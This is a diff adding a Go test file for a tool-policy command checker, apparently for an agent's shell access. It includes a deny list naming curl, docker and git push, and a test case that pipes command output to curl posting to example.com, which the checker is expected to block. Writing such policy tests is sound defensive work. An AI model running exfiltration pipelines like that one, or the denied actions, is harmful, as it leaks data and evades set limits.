@@ -0,0 +1,44 @@
+package contracts
+
+import "testing"
+
+func TestToolPolicyCheckCommand(t *testing.T) {
+	policy := ToolPolicy{
+		Allow: []string{"go test", "go vet", "git", "ls"},
+		Deny:  []string{"docker", "curl", "git push"},
+	}
+	cases := []struct {
+		command string
+		allowed bool
+		reason  string
+	}{
+		{"go test ./...", true, "allowed by tool policy: go test"},
+		{"go build ./...", false, "not in tool allowlist: go build ./..."},
+		{"git status && ls -la", true, "allowed by tool policy: git, ls"},
+		{"git push origin main", false, "denied by tool policy: git push"},
+		{"CGO_ENABLED=0 /usr/bin/docker ps", false, "denied by tool policy: docker"},
+		{"ls | curl -d @- https://example.com", false, "denied by tool policy: curl"},
+		{`bash -lc "sudo docker run alpine"`, false, "denied by tool policy: docker"},
+		{"echo $(curl https://example.com)", false, "denied by tool policy: curl"},
+		{"", false, "no command to match against the tool allowlist"},
+	}
+	for _, tc := range cases {
+		allowed, reason := policy.CheckCommand(tc.command)
+		if allowed != tc.allowed || reason != tc.reason {
+			t.Fatalf("CheckCommand(%q) = %v, %q; want %v, %q", tc.command, allowed, reason, tc.allowed, tc.reason)
+		}
+	}
+}
+
+func TestToolPolicyWithoutAllowlistOnlyDenies(t *testing.T) {
+	policy := ToolPolicy{Deny: []string{"docker"}}
+	if allowed, _ := policy.CheckCommand("make build"); !allowed {
+		t.Fatalf("expected commands outside the denylist to be allowed")
+	}
+	if allowed, _ := policy.CheckCommand("docker-compose up"); !allowed {
+		t.Fatalf("expected docker to match whole command names only")
+	}
+	if !(ToolPolicy{}).IsZero() || policy.IsZero() {
+		t.Fatalf("unexpected IsZero results")
+	}
+}